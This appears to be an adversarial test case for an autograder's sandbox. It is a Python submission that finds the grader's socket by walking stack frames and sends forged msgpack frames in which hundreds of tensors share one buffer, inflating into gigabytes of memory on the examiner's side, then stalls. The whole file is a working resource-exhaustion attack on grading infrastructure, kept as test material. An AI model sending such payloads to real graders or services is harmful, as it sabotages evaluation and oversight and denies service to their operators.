# /// attack
# title = "lets four hundred tensors share the bytes of one, so that a small frame becomes gigabytes in the examiner"
# [promise]
# test_increment = "failed protocol|limit"
# test_pure = "failed protocol|limit"
# test_twice = "failed protocol|limit"
# ///

# %%
import struct
import sys
import time

import msgspec

def peer():
    frame = sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("self")
        if type(found).__name__ == "Peer":
            return found
        frame = frame.f_back


def request():
    frame = sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("request")
        if type(found).__name__ == "Request":
            return found.id
        frame = frame.f_back


def send(message, payload=b""):
    header = msgspec.msgpack.encode(message)
    end = peer().channel._socket
    end.settimeout(None)
    end.sendall(struct.pack("<IIQ", 0x31574741, len(header), len(payload)) + header)
    end.sendall(payload)


values = sys.modules["autograder.wire.values"]


def increment(x):
    shared = values.Tensor("bool", [16 << 20], 0)
    send(values.Return(request(), values.Items("list", [shared] * 400)), bytes(16 << 20))
    time.sleep(100)


def invert(x):
    leaves = [
        values.Tensor("float32", [4 << 20], 0, owned=1000 + number, grad=True, parameter=True) for number in range(300)
    ]
    send(values.Return(request(), None, touched=leaves), bytes(16 << 20))
    time.sleep(100)


def twice(f, x):
    shared = values.Array("float64", [1 << 20], 0)
    send(values.Return(request(), values.Items("tuple", [shared] * 10_000)), bytes(8 << 20))
    time.sleep(100)
